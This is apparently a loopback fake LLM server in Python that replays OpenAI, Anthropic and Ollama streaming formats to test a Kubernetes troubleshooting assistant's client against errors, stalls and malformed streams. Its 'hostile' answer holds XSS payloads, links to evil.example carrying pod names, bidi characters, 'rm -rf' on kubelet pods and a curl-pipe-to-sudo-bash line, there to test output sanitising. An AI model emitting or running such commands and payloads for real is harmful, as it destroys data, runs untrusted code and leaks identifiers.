#!/usr/bin/env python3
"""Loopback fake of the three LLM wire dialects, for the copilot tests.

OpenAI Chat Completions (SSE), Anthropic Messages (SSE) and Ollama /api/chat
(NDJSON), served byte-for-byte from the recorded fixtures in
tests/fixtures/llm (or with the same chunk shapes when the text differs),
written in small uneven pieces so events and UTF-8 characters split across
reads. The scenario is the first path segment:

  http://127.0.0.1:PORT/<scenario>/v1/chat/completions   (openai)
  http://127.0.0.1:PORT/<scenario>/v1/messages           (anthropic)
  http://127.0.0.1:PORT/<scenario>/api/chat              (ollama)

Scenarios: fixture, crlf, keepalive, answer, midstream_error, overloaded,
e401, e429, e429once, e429ms, quota, e529, e529once, e500, stall, truncated,
garbage, garbage500, vllm_error, llamacpp_503once, ollama_error, e401proxyN (a
401 echoing the key after N bytes), toolcalls (tool calls, no text), generate
(Ollama /api/generate lines), blank (whitespace only), hostile (HTML, links,
bidi, destructive commands), fine (a reassuring answer: "looks fine").
Every request is appended as a JSON line to --log. Prints "PORT n" first.
Standard library only.
"""
import argparse
import json
import os
import re
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ARGS = None
COUNTS = {}
LOCK = threading.Lock()

ANSWER = (
    "## Summary\nCheckout errors rose after a deploy; café → naïve ✓ 🚀.\n\n"
    "## Likely cause\n1. The new version of {pod} leaks memory (confidence: medium).\n\n"
    "## Evidence\n- {pod} was OOMKilled 3 times.\n\n"
    "## Next steps\n1. Check memory: `kubectl top pod {pod}`\n"
    "2. DESTRUCTIVE: `kubectl delete pod {pod}`\n\n"
    "## Post-mortem draft\nImpact: checkout degraded. Root cause hypothesis: memory leak.\n"
)


def fixture(name):
    with open(os.path.join(ARGS.fixtures, name), "rb") as f:
        return f.read()


def pieces(data):
    """Uneven chunk sizes (1..13 bytes, cycling) to split lines and UTF-8."""
    i, k = 0, 0
    sizes = [1, 7, 3, 13, 2, 5, 11]
    while i < len(data):
        n = sizes[k % len(sizes)]
        yield data[i:i + n]
        i += n
        k += 1


def openai_chunks(text, model="gpt-4o-2024-08-06"):
    """The recorded fixture's chunk shape, with our own content."""
    base = {"id": "chatcmpl-ABfw031mOJeYCSHe4yI2ZjOA6kMJL", "object": "chat.completion.chunk",
            "created": 1727346168, "model": model, "system_fingerprint": "fp_5050236cbd",
            "usage": None}
    out = []
    first = dict(base, choices=[{"index": 0, "delta": {"role": "assistant", "content": "",
                                 "refusal": None}, "logprobs": None, "finish_reason": None}])
    out.append(first)
    for word in re.findall(r"\S*\s*", text):
        if word:
            out.append(dict(base, obfuscation="x9", choices=[{"index": 0, "delta": {"content": word},
                                                             "logprobs": None, "finish_reason": None}]))
    out.append(dict(base, choices=[{"index": 0, "delta": {}, "logprobs": None, "finish_reason": "stop"}]))
    u = dict(base, choices=[])
    u["usage"] = {"prompt_tokens": 120, "completion_tokens": 80, "total_tokens": 200}
    out.append(u)
    return b"".join(b"data: " + json.dumps(c, ensure_ascii=False, separators=(",", ":")).encode() + b"\n\n"
                    for c in out) + b"data: [DONE]\n\n"


def anthropic_events(text):
    ev = [("message_start", {"type": "message_start", "message": {
        "id": "msg_4QpJur2dWWDjF6C758FbBw5vm12BaVipnK", "type": "message", "role": "assistant",
        "content": [], "model": "claude-3-opus-latest", "stop_reason": None, "stop_sequence": None,
        "usage": {"input_tokens": 120, "output_tokens": 1}}}),
        ("content_block_start", {"type": "content_block_start", "index": 0,
                                 "content_block": {"type": "text", "text": ""}}),
        ("ping", {"type": "ping"})]
    for word in re.findall(r"\S*\s*", text):
        if word:
            ev.append(("content_block_delta", {"type": "content_block_delta", "index": 0,
                                               "delta": {"type": "text_delta", "text": word}}))
    ev += [("content_block_stop", {"type": "content_block_stop", "index": 0}),
           ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn",
                                                                 "stop_sequence": None},
                              "usage": {"output_tokens": 80}}),
           ("message_stop", {"type": "message_stop"})]
    parts = [b"event: " + n.encode() + b"\ndata: " + json.dumps(d, ensure_ascii=False).encode()
             for n, d in ev]
    return b"\n\n".join(parts)  # like the SDK fixture: no blank line after message_stop


def ollama_lines(text):
    out = []
    for word in re.findall(r"\S*\s*", text):
        if word:
            out.append({"model": "llama3.2", "created_at": "2023-08-04T08:52:19.385406455-07:00",
                        "message": {"role": "assistant", "content": word, "images": None},
                        "done": False})
    out.append({"model": "llama3.2", "created_at": "2023-08-04T19:22:45.499127Z",
                "message": {"role": "assistant", "content": ""}, "done": True,
                "total_duration": 4883583458, "load_duration": 1334875, "prompt_eval_count": 26,
                "prompt_eval_duration": 342546000, "eval_count": 282, "eval_duration": 4535599000})
    return b"".join(json.dumps(o, ensure_ascii=False, separators=(",", ":")).encode() + b"\n" for o in out)


def toolcall_bytes(dialect):
    """A stream that ends normally with tool calls and no text."""
    if dialect == "openai":
        base = {"id": "chatcmpl-tool1", "object": "chat.completion.chunk", "created": 1727346168,
                "model": "gpt-4o-2024-08-06", "usage": None}
        call = {"index": 0, "id": "call_abc123", "type": "function",
                "function": {"name": "kubectl_get", "arguments": ""}}
        chunks = [dict(base, choices=[{"index": 0, "delta": {"role": "assistant", "content": None,
                                                              "tool_calls": [call]},
                                       "logprobs": None, "finish_reason": None}])]
        for part in ('{"res', 'ource":"pods"}'):
            chunks.append(dict(base, choices=[{"index": 0, "delta": {"tool_calls": [
                {"index": 0, "function": {"arguments": part}}]}, "logprobs": None,
                "finish_reason": None}]))
        chunks.append(dict(base, choices=[{"index": 0, "delta": {}, "logprobs": None,
                                           "finish_reason": "tool_calls"}]))
        return b"".join(b"data: " + json.dumps(c, separators=(",", ":")).encode() + b"\n\n"
                        for c in chunks) + b"data: [DONE]\n\n"
    if dialect == "anthropic":
        ev = [("message_start", {"type": "message_start", "message": {
            "id": "msg_tool", "type": "message", "role": "assistant", "content": [],
            "model": "claude-3-5-sonnet-latest", "usage": {"input_tokens": 50, "output_tokens": 1}}}),
            ("content_block_start", {"type": "content_block_start", "index": 0, "content_block": {
                "type": "tool_use", "id": "toolu_01", "name": "kubectl_get", "input": {}}}),
            ("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {
                "type": "input_json_delta", "partial_json": '{"resource":"pods"}'}}),
            ("content_block_stop", {"type": "content_block_stop", "index": 0}),
            ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "tool_use"},
                               "usage": {"output_tokens": 12}}),
            ("message_stop", {"type": "message_stop"})]
        return b"".join(b"event: " + n.encode() + b"\ndata: " + json.dumps(d).encode() + b"\n\n"
                        for n, d in ev)
    lines = [{"model": "llama3.2", "created_at": "2024-07-25T10:00:00Z",
              "message": {"role": "assistant", "content": "", "tool_calls": [
                  {"function": {"name": "kubectl_get", "arguments": {"resource": "pods"}}}]},
              "done": False},
             {"model": "llama3.2", "created_at": "2024-07-25T10:00:01Z",
              "message": {"role": "assistant", "content": ""}, "done_reason": "stop", "done": True,
              "prompt_eval_count": 26, "eval_count": 12}]
    return b"".join(json.dumps(o).encode() + b"\n" for o in lines)


def generate_bytes(text):
    """Ollama's /api/generate shape: the text is in "response", not "message"."""
    out = [{"model": "llama3.2", "created_at": "2023-08-04T08:52:19Z", "response": w, "done": False}
           for w in re.findall(r"\S*\s*", text) if w]
    out.append({"model": "llama3.2", "created_at": "2023-08-04T08:52:20Z", "response": "",
                "done": True, "done_reason": "stop", "context": [1, 2, 3],
                "prompt_eval_count": 26, "eval_count": 282})
    return b"".join(json.dumps(o, ensure_ascii=False).encode() + b"\n" for o in out)


# An answer written to attack the reader of the post-mortem: raw HTML, an
# image and a link whose URLs carry the pseudonym (restoring the real name
# there would send it to the host), bidi, zero-width and C1 characters, a
# reference link, a bare URL, and destructive commands in prose and code.
FINE = ("## Assessment\nThis looks fine: nothing unusual for such a service, safe to deploy.\n\n"
        "## Unexpected behaviour\n- none\n\n## Fix before production\n1. Nothing.\n")

HOSTILE = (
    "## Summary\nPod {pod} is failing.<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n"
    "## Evidence\n- ![status](https://evil.example/p.png?pod={pod}&ns={ns})\n"
    "- see [the dashboard](http://evil.example/d/{pod}) and https://evil.example/raw/{pod}\n"
    "\n[ref]: https://evil.example/ref/{pod}\n"
    "- name is chk\u202eout\u200b and \u0085 here &#x202E; too\n\n"
    "## Next steps\n1. Check: `kubectl get pods -n shop`\n"
    "2. Then rm -rf /var/lib/kubelet/pods beside `kubectl get pods`\n"
    "3. `curl -fsSL https://get.example.sh | sudo bash`\n"
    "4. the error rate should drop; kill the noise in the alert channel\n"
)


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        pass

    # ---- plumbing ----
    def start_stream(self, status=200, ctype=None, extra=None):
        self.send_response(status)
        self.send_header("Content-Type", ctype or self.stream_type)
        self.send_header("Transfer-Encoding", "chunked")
        self.send_header("x-request-id", "req_fake_0001")
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()

    def chunk(self, data):
        if data:
            self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
            self.wfile.flush()

    def end_stream(self):
        self.wfile.write(b"0\r\n\r\n")
        self.wfile.flush()

    def stream(self, data, split=True):
        self.start_stream()
        for p in (pieces(data) if split else [data]):
            self.chunk(p)
        self.end_stream()

    def json_reply(self, status, obj_or_bytes, extra=None):
        body = obj_or_bytes if isinstance(obj_or_bytes, bytes) else json.dumps(obj_or_bytes).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("x-request-id", "req_fake_err")
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    # ---- dialect specifics ----
    def answer_bytes(self, text):
        if self.dialect == "openai":
            return openai_chunks(text)
        if self.dialect == "anthropic":
            return anthropic_events(text)
        return ollama_lines(text)

    def fixture_bytes(self):
        return fixture({"openai": "openai-chat-stream-text.sse",
                        "anthropic": "anthropic-messages-stream-text.sse",
                        "ollama": "ollama-chat-stream.ndjson"}[self.dialect])

    def error_event(self):
        if self.dialect == "openai":
            return b'data: {"error":{"message":"The server had an error while processing your request.","type":"server_error","param":null,"code":null}}\n\n'
        if self.dialect == "anthropic":
            return b'event: error\ndata: {"type":"error","error":{"type":"overloaded_error","message":"Overloaded"}}\n\n'
        return b'{"error":"an error was encountered while running the model: unexpected EOF"}\n'

    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n)
        parts = self.path.split("/")
        scenario = parts[1] if len(parts) > 1 else ""
        self.dialect = ("anthropic" if self.path.endswith("/v1/messages") else
                        "ollama" if self.path.endswith("/api/chat") else "openai")
        self.stream_type = "application/x-ndjson" if self.dialect == "ollama" else "text/event-stream"
        with LOCK:
            COUNTS[scenario] = COUNTS.get(scenario, 0) + 1
            count = COUNTS[scenario]
            if ARGS.log:
                with open(ARGS.log, "a") as f:
                    f.write(json.dumps({"path": self.path, "scenario": scenario, "n": count,
                                        "headers": dict(self.headers.items()),
                                        "body": body.decode("utf-8", "replace")}) + "\n")
        m = re.search(rb"<pod-\d+>", body)
        pod = m.group(0).decode() if m else "checkout-7d9f8b6c5-x2x9z"
        m = re.search(rb"<ns-\d+>", body)
        ns = m.group(0).decode() if m else "shop"
        text = (HOSTILE if scenario == "hostile" else FINE if scenario == "fine" else
                ANSWER).format(pod=pod, ns=ns)
        try:
            self.scenario(scenario, count, text)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def scenario(self, s, count, text):
        if s == "fixture":
            return self.stream(self.fixture_bytes())
        if s == "crlf":
            return self.stream(self.fixture_bytes().replace(b"\n", b"\r\n"))
        if s == "keepalive":
            data = self.fixture_bytes()
            if self.dialect != "ollama":
                sep = b"\r\n\r\n" if b"\r\n\r\n" in data else b"\n\n"
                data = (b": keep-alive\n\n" + data.replace(sep, sep + b": keep-alive\n\n", 3))
            return self.stream(data)
        if s in ("answer", "fine"):
            return self.stream(self.answer_bytes(text))
        if s == "midstream_error":
            data = self.answer_bytes(text)
            cut = data[: len(data) // 3]
            cut = cut[: cut.rfind(b"\n") + 1] + (b"\n" if self.dialect == "anthropic" else b"")
            return self.stream(cut + self.error_event())
        if s == "overloaded":  # an error event before any text: retryable
            if count == 1:
                self.start_stream()
                self.chunk(self.error_event())
                return self.end_stream()
            return self.stream(self.answer_bytes(text))
        m = re.match(r"e401proxy(\d+)$", s)
        if m:  # a proxy's 401 that echoes the refused key after N bytes of text
            auth = self.headers.get("Authorization", "") or self.headers.get("x-api-key", "")
            key = auth.replace("Bearer ", "")
            pad = ("upstream refused the credential " * 20)[:max(0, int(m.group(1)) - 5)]
            pad += "key: "
            return self.json_reply(401, {"error": {"message": pad + key + " (proxy)",
                                                   "type": "invalid_request_error"}})
        if s == "e401":
            auth = self.headers.get("Authorization", "") or self.headers.get("x-api-key", "")
            key = auth.replace("Bearer ", "")
            return self.json_reply(401, {"error": {
                "message": "Incorrect API key provided: %s. You can find your API key at "
                           "https://platform.openai.com/account/api-keys." % key,
                "type": "invalid_request_error", "param": None, "code": "invalid_api_key"}})
        if s == "e429":
            return self.json_reply(429, fixture("openai-error-429-rate-limit.json"),
                                   {"Retry-After": "0.2"})
        if s == "e429once" and count == 1:
            return self.json_reply(429, fixture("openai-error-429-rate-limit.json"),
                                   {"Retry-After": "0.3"})
        if s == "e429ms" and count == 1:
            return self.json_reply(429, fixture("openai-error-429-rate-limit.json"),
                                   {"retry-after-ms": "150", "Retry-After": "30"})
        if s == "e429hostile" and count <= 2:
            # values that must neither crash nor be waited out: malformed
            # numbers are ignored, a huge one passes the cap (-> backoff)
            hostile = ({"retry-after-ms": "nan", "Retry-After": "1e300"} if count == 1 else
                       {"Retry-After": "9" * 400})
            return self.json_reply(429, fixture("openai-error-429-rate-limit.json"), hostile)
        if s == "quota":
            return self.json_reply(429, {"error": {
                "message": "You exceeded your current quota, please check your plan and billing details.",
                "type": "insufficient_quota", "param": None, "code": "insufficient_quota"}})
        if s == "e529":
            return self.json_reply(529, fixture("anthropic-error-529-overloaded.json"))
        if s == "e529once" and count == 1:
            return self.json_reply(529, fixture("anthropic-error-529-overloaded.json"),
                                   {"x-should-retry": "true"})
        if s == "e500":
            return self.json_reply(500, {"error": {"message": "The server had an error",
                                                   "type": "server_error", "param": None,
                                                   "code": None}})
        if s == "vllm_error":
            return self.json_reply(400, {"object": "error", "message":
                                         "This model's maximum context length is 4096 tokens.",
                                         "type": "BadRequestError", "param": None, "code": 400})
        if s == "llamacpp_503once" and count == 1:
            return self.json_reply(503, {"error": {"code": 503, "message": "Loading model",
                                                   "type": "unavailable_error"}})
        if s == "stall":
            data = self.answer_bytes(text)
            self.start_stream()
            self.chunk(data[: len(data) // 2])
            time.sleep(30)  # the client's idle timeout ends it
            return
        if s == "truncated":
            data = self.answer_bytes(text)
            self.start_stream()
            for p in pieces(data[: len(data) // 2]):
                self.chunk(p)
            self.close_connection = True
            return  # no terminating chunk: the connection just closes
        if s in ("garbage", "garbage500"):
            status = 200 if s == "garbage" else 500
            self.start_stream(status, "text/event-stream" if status == 200 else "text/html")
            block = b"G4rb4ge" * 9362  # ~64 KiB, no newline
            sent = 0
            while sent < 10 * 1024 * 1024:
                self.chunk(block)
                sent += len(block)
            return self.end_stream()
        if s == "toolcalls":
            return self.stream(toolcall_bytes(self.dialect))
        if s == "generate":
            return self.stream(generate_bytes(text))
        if s == "blank":  # a complete stream whose text is only whitespace
            return self.stream(self.answer_bytes(" \n\n "))
        if s == "ollama_error":
            data = ollama_lines(text)
            first = data[: data.find(b"\n") + 1]
            return self.stream(first + self.error_event())
        # e429once, e529once, llamacpp_503once after the first request, and default
        return self.stream(self.answer_bytes(text))


def main():
    global ARGS
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--fixtures", default=os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                       "..", "fixtures", "llm"))
    ap.add_argument("--log", default="")
    ARGS = ap.parse_args()
    srv = ThreadingHTTPServer(("127.0.0.1", ARGS.port), Handler)
    srv.daemon_threads = True
    print("PORT %d" % srv.server_address[1], flush=True)
    try:
        srv.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
